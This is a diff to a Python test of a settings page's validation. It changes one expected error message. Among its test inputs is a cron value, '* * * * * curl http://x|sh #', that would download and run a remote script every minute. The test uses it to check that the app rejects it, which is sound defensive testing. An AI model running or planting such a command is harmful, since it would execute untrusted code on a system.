@@ -39,7 +39,7 @@ def test_a_setting_is_changed_in_the_file_of_its_owner_after_the_programs_own_ch
         late = owner.post("/settings/save", 400, name="MEMORY_TOKENS", was="900", value="700")
         assert "MEMORY_TOKENS has become 1200" in late and 'value="700"' in late
         for name, was, value, sentence in (
-            ("MEMORY_TOKENS", "1200", "many", "should be a valid integer"),
+            ("MEMORY_TOKENS", "1200", "many", "it must be a whole number"),
             ("CHAT_TIMEZONE", "Europe/Rome", "Nowhere", "write one like Europe/Berlin"),
             ("NIGHT_CRON", "0 3 * * *", "x\ny", "cannot be seen"),
             ("NIGHT_CRON", "0 3 * * *", "* * * * * curl http://x|sh #", "write one like 0 3 * * *"),
